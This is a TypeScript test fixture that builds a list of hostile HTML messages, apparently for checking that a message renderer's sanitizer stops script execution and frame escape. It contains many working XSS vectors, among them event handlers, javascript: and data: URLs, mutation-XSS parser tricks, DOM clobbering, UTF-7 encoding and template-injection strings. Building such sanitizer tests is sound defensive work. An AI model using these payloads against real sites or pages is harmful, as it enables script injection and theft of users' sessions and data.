// HTML that tries to run script or to leave the frame: handlers, script URLs, parser differences, mutation, clobbering.

import { canary, type HostileMessage, html, js, readableEnd } from './build-message.ts'

const img = `<img src=x onerror=${js}>`

export const scriptMessages: readonly HostileMessage[] = [
  html('x', 'script', `<script>${js}</script><script src="${canary}/s.js"></script>`),
  html('x', 'script-case-and-split', `<ScRiPt>${js}</sCrIpT ><scr<script>ipt>${js}</scr</script>ipt>`),
  html('x', 'script-module', `<script type="module">${js}</script><script type="importmap">{"imports":{}}</script>`),
  html('c', 'handler-img', img),
  html('c', 'handler-slash', `<img/src=x/onerror=${js}><img\tsrc=x\nonerror\n=\n${js}>`),
  html(
    'c',
    'handler-backslash',
    `<img src="x\\" onerror="${js}"><img \\onerror=${js} src=x><img src=x o\u0000nerror=${js}>`,
  ),
  html('c', 'handler-with-dot', `<body onload.x=${js} onload=${js}>`),
  html(
    'x',
    'handlers-all',
    [
      'onclick',
      'onfocus autofocus tabindex=1',
      'onanimationstart',
      'ontoggle',
      'onpointerover',
      'onbeforeinput',
      'onscrollend',
      'oncontentvisibilityautostatechange style=content-visibility:auto',
      'onbeforetoggle popover',
    ]
      .map((a) => `<div ${a.replace(/^(\w+)/, `$1=${js}`)}>x</div>`)
      .join(''),
  ),
  html('x', 'details-ontoggle', `<details open ontoggle=${js}>x</details>`),
  html(
    'x',
    'marquee-video-audio',
    `<marquee onstart=${js}>x</marquee><video oncanplay=${js} onerror=${js}><source onerror=${js} src=x></video><audio src=x onerror=${js}></audio>`,
  ),
  html(
    'x',
    'body-handlers',
    `<html><body onload=${js} onpageshow=${js} onhashchange=${js} background="${canary}/b.png"><p>${readableEnd}</p></body></html>`,
    { isWhole: true },
  ),
  html(
    'x',
    'javascript-links',
    `<a href="javascript:${js}">a</a><a href="JaVaScRiPt:${js}">b</a><a href=" &#14; javascript:${js}">c</a><a href="java&#x09;script:${js}">d</a><a href="java&#10;script&colon;${js}">e</a><a href="javascript&Tab;:${js}">f</a><a href="\u0001javascript:${js}">g</a>`,
  ),
  html(
    'x',
    'vbscript-and-data-links',
    `<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>${js}</script>">b</a><a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlTWFya2VyKCk8L3NjcmlwdD4=">c</a><a href="blob:null/x">d</a><a href="view-source:javascript:${js}">e</a>`,
  ),
  html(
    'x',
    'area-map-base-link',
    `<base href="javascript:/a/-${js}//"><a href="x">x</a><map name=m><area shape=default href="javascript:${js}"></map><img usemap=#m src=cid:x>`,
  ),
  html(
    'x',
    'iframe-srcdoc',
    `<iframe srcdoc="<script>parent.${js}</script>"></iframe><iframe src="javascript:${js}"></iframe><iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  ),
  html(
    'x',
    'object-embed-applet',
    `<object data="javascript:${js}"><p>inner</p></object><object data="data:text/html,<script>${js}</script>"></object><embed src="javascript:${js}"><applet code="${canary}/a"></applet><object><param name=movie value="${canary}/f.swf"></object>`,
  ),
  html(
    'x',
    'portal-fencedframe-frameset',
    `<portal src="${canary}/p"></portal><fencedframe></fencedframe><frameset><frame src="javascript:${js}"></frameset>`,
  ),
  html(
    'x',
    'form-and-buttons',
    `<form action="javascript:${js}" id=f><input name=a value=b><button formaction="javascript:${js}">Send</button><input type=image src="${canary}/i.png" formaction="javascript:${js}"></form><isindex action="javascript:${js}"><button form=f>x</button>`,
  ),
  html(
    'x',
    'meta-refresh',
    `<meta http-equiv="refresh" content="0;url=${canary}/m"><meta http-equiv="refresh" content="0;url=javascript:${js}"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="content-security-policy" content="default-src *">`,
  ),
  html('x', 'autofocus-loop', `<a id=x tabindex=1 onfocus=${js} autofocus>x</a><style>a:focus{color:red}</style>`),
  html(
    'x',
    'template-and-shadow',
    `<template>${img}</template><div><template shadowrootmode=open>${img}<slot></slot></template></div><div><template shadowroot=open><script>${js}</script></template></div>`,
  ),
  html(
    'x',
    'custom-element',
    `<x-y is="x-y" onclick=${js}>x</x-y><div is=x-y contenteditable onbeforeinput=${js}>x</div><slot onslotchange=${js}></slot>`,
  ),
  html('b', 'noscript', `<noscript><p title="</noscript>${img}"></noscript>`, { mayHideEnd: true }),
  html(
    'b',
    'title-textarea-xmp',
    `<title><p title="</title>${img}">x</title><textarea><p title="</textarea>${img}"></textarea><xmp><p title="</xmp>${img}"></xmp>`,
  ),
  html('b', 'style-closes', `<style><a title="</style>${img}"></style><style>@media{</style>${img}<style>}</style>`),
  html(
    'b',
    'noembed-noframes-iframe',
    `<noembed><img title="</noembed>${img}"></noembed><noframes><img title="</noframes>${img}"></noframes><iframe><img title="</iframe>${img}"></iframe>`,
  ),
  html('b', 'plaintext', `<plaintext>${img}`, { mayHideEnd: true }),
  html(
    'b',
    'comment-conditional',
    `<!--[if gte mso 9]>${img}<![endif]--><![if !IE]>${img}<![endif]><!--><script>${js}</script>--><!-- --!>${img}-->`,
  ),
  html('b', 'comment-unclosed', `<p>${readableEnd}</p><!-- <p title="-->${img}"`, { mayHideEnd: true }),
  html('b', 'cdata', `<![CDATA[${img}]]><svg><![CDATA[</svg>${img}]]></svg><style><![CDATA[</style>${img}]]></style>`),
  html(
    'b',
    'xml-declaration-xmlns',
    `<?xml version="1.0"?><?xml-stylesheet href="javascript:${js}"?><html xmlns="http://www.w3.org/1999/xhtml&quot; onload=&quot;${js}"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  ),
  html('b', 'entities-in-doctype', `<!DOCTYPE x [<!ENTITY e "${img.replaceAll('"', "'")}">]>&e;<p>x</p>`),
  html(
    'b',
    'mutation-form-table',
    `<form><div></form><form><table><a title="</form>${img}"></table></form><table><td><form><tr><form>${img}`,
  ),
  html(
    'b',
    'mutation-math-style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    { mayHideEnd: true },
  ),
  html(
    'b',
    'mutation-svg-desc',
    `<svg><desc><style><img title="</style>${img}"></desc></svg><svg></p><style><a id="</style>${img}">`,
  ),
  html('b', 'mutation-select', `<select><template><style><!--</style><a rel="--></style></template></select>${img}">`, {
    mayHideEnd: true,
  }),
  html(
    'b',
    'mutation-annotation',
    `<math><annotation-xml encoding="text/html"><style><img title="</style>${img}"></style></annotation-xml></math>`,
  ),
  html('b', 'mutation-mglyph-malignmark', `<math><mi><malignmark><style><!--</style><img title="--></style>${img}">`, {
    mayHideEnd: true,
  }),
  html('b', 'mutation-nested-p-a', `<a><b><a><p><table><a title="<!--">${img.replaceAll('<', '&lt;')}</a><p></table>`),
  html('b', 'foster-parenting', `<table><style><a title="</style>${img}"><tr>${img}<caption><select>${img}</table>`),
  html('b', 'deep-nesting', `${'<div>'.repeat(3000)}<p>${readableEnd}</p>${img}${'</div>'.repeat(3000)}`),
  html(
    'b',
    'deep-nesting-mutation',
    `${'<div>'.repeat(509)}<svg><style><a title="</style>${img}"></style></svg>${'</div>'.repeat(509)}<p>${readableEnd}</p>`,
  ),
  html('b', 'deep-formatting', `${'<b><i><font><a href="x">'.repeat(400)}<p>${readableEnd}</p>${img}`),
  html('b', 'unclosed-attribute', `<p>${readableEnd}</p><img src="cid:x" title="${img} `, { mayHideEnd: true }),
  html('b', 'unclosed-tag', `<p>${readableEnd}</p><img src=x onerror=${js} `, { mayHideEnd: true }),
  html(
    'b',
    'quotes-and-backticks',
    `<img alt="\`\`onerror=${js}" src=x><img title='"><img src=x onerror=${js}>' alt='x'><a title="&quot; onmouseover=&quot;${js}">x</a>`,
  ),
  html(
    'a',
    'quoted-text-in-attributes',
    `<body title="bgcolor=foo" name="bar style=animation-name:x onanimationstart=${js}"><div title=' style="x" onclick=${js} '>x</div>`,
  ),
  html(
    'a',
    'placeholders',
    `##str_replacement_0## [[IMAGE1]] {{constructor.constructor('${js}')()}} \${${js}} %7B%7B <%= ${js} %> {0} %s $& $\` $'`,
  ),
  html('a', 'entities-twice', `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt; &lt;img src=x onerror=${js}&gt;`),
  html('a', 'charset-tricks', `<meta charset=utf-7>+ADw-script+AD4-${js}+ADw-/script+AD4- \u00bcscript\u00be${js}`),
  html(
    'x',
    'clobbering',
    `<form name=body><input name=attributes><input name=parentNode><input name=nodeName></form><img name=documentElement><img name=head><img name=defaultView><a id=location></a><a id=hostileMarker></a><img name=createElement><embed name=getElementById><object name=body></object>`,
  ),
  html(
    'x',
    'clobbering-ids-of-the-app',
    `<div id=root>x</div><div id=app></div><div id=__proto__></div><a id=constructor></a><a id=config href="cid:x"></a><a id=config name=url href="clobber:1"></a>`,
  ),
  html(
    'x',
    'app-classes-and-covers',
    `<div class="app modal dialog toast overlay" style="position:fixed!important;inset:0;z-index:2147483647;width:100vw;height:100vh;background:red">cover</div><style>.x{position:/**/fixed;top:0}html,body{position:fixed;inset:0}iframe{display:none}</style><dialog open style="position:fixed;inset:0">cover</dialog><div popover=manual>p</div>`,
  ),
  html(
    'x',
    'endless-height',
    `<style>html,body{height:101%;min-height:200vh}div{height:calc(100vh + 10px)}</style><div style="height:150vh">x</div>`,
  ),
  html(
    'x',
    'target-and-opener',
    `<a href="${canary}/l" target="_top" rel="opener" ping="${canary}/ping" download="x.exe" onclick=${js}>link</a><a href="${canary}/l2" target="_parent">x</a><base target=_top>`,
  ),
  html('x', 'navigation-by-fragment', `<a name=x id=x href="#x">to x</a><a href="#" onclick=${js}>top</a>`),
]
